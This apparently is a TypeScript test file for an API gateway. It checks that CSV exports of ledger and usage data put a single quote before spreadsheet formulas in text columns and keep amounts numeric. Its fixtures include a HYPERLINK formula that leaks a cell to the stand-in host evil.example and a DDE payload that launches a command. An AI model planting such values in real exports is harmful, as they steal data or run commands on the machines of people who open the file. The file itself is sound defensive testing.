import { describe, expect, test } from 'bun:test'
import { sql } from 'drizzle-orm'
import { parseCsv } from '../support/csv'
import { testDatabases } from '../support/databases'
import { gatewaySuite } from '../support/gateway-suite'

/** The CSV's records as objects keyed by its header. */
function csvRows(text: string): Record<string, string>[] {
  const [header = [], ...records] = parseCsv(text)
  return records.map((record) => Object.fromEntries(header.map((name, index) => [name, record[index] ?? ''])))
}

/** Text that opens as a formula in a spreadsheet, one per start character OWASP lists. */
const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  cr: '\r=1+1',
}

/**
 * A CSV export opened in a spreadsheet must not run what others wrote: every text column whose
 * value starts like a formula is written with a single quote in front, while the amounts the
 * exporter writes (negative ones included) stay numbers (docs/operations.md#reporting).
 */
for (const kind of testDatabases) {
  describe(`CSV exports neutralise formulas (${kind.kind})`, () => {
    const suite = gatewaySuite(kind, { mockUpstream: false })

    test('ledger: a credit note, a user sub and every other text column; a negative amount stays a number', async () => {
      const account = await suite.harness.account()
      const credit = await suite.harness.admin('POST', `/accounts/${account.id}/credits`, { amount: 2, note: FORMULAS.equals })
      expect(credit.status).toBe(200)
      const debit = await suite.harness.admin('POST', `/accounts/${account.id}/credits`, { amount: -1.5, note: FORMULAS.minus })
      expect(debit.status).toBe(200)
      const csv = await suite.harness.admin('GET', `/ledger?account_id=${account.id}&format=csv`)
      expect(csv.status).toBe(200)
      const [adjustment, topUp] = csvRows(csv.text)
      expect(topUp?.note).toBe(`'${FORMULAS.equals}`)
      expect(adjustment?.note).toBe(`'${FORMULAS.minus}`)
      expect(adjustment?.amount).toBe('-1.500000')
      expect(topUp?.amount).toBe('2.000000')
      // The JSON answers are the data as it is.
      expect((await suite.harness.admin('GET', `/ledger?account_id=${account.id}`)).json.data[1].note).toBe(FORMULAS.equals)

      // A user whose sub is a formula; then every other text column of its entry made one too.
      const sub = FORMULAS.at
      expect((await suite.harness.admin('POST', '/users/credits', { iss: 'https://idp.example', sub, amount: 1 })).status).toBe(200)
      await suite.database.db.execute(
        sql`update ledger_entries set account_id = ${FORMULAS.plus}, key_id = ${FORMULAS.minus}, env = ${FORMULAS.tab}, request_id = ${FORMULAS.cr},
            model = ${FORMULAS.equals}, route = ${FORMULAS.at}, note = ${FORMULAS.tab} where user_sub = ${sub}`,
      )
      const userCsv = await suite.harness.admin('GET', `/ledger?user_sub=${encodeURIComponent(sub)}&format=csv`)
      const [entry] = csvRows(userCsv.text)
      expect(entry).toMatchObject({
        user_sub: `'${FORMULAS.at}`,
        account_id: `'${FORMULAS.plus}`,
        key_id: `'${FORMULAS.minus}`,
        env: `'${FORMULAS.tab}`,
        request_id: `'${FORMULAS.cr}`,
        model: `'${FORMULAS.equals}`,
        route: `'${FORMULAS.at}`,
        note: `'${FORMULAS.tab}`,
        amount: '1.000000',
      })
      // Columns the gateway writes itself start with neither: ids, times, kinds, JSON.
      expect(entry?.kind).toBe('topup')
      expect(entry?.payer).toStartWith('{')
    })

    test('usage summaries: every text column; costs stay numbers', async () => {
      await suite.database.db.execute(
        sql`insert into usage_rollups (hour, account_id, key_id, user_sub, model, requests, input_tokens, output_tokens, cost)
            values ('2030-03-01T10:00:00Z', ${FORMULAS.equals}, ${FORMULAS.plus}, ${FORMULAS.at}, ${FORMULAS.minus}, 3, 10, 20, 1500000)`,
      )
      const csv = await suite.harness.admin('GET', '/usage?group_by=hour,account,key,user,model&since=2030-03-01&until=2030-03-02&format=csv')
      expect(csv.status).toBe(200)
      const rows = csvRows(csv.text)
      expect(rows).toHaveLength(1)
      expect(rows[0]).toMatchObject({
        period: '2030-03-01T10:00:00Z',
        account_id: `'${FORMULAS.equals}`,
        key_id: `'${FORMULAS.plus}`,
        user_sub: `'${FORMULAS.at}`,
        model: `'${FORMULAS.minus}`,
        requests: '3',
        cost: '1.500000',
      })
    })
  })
}
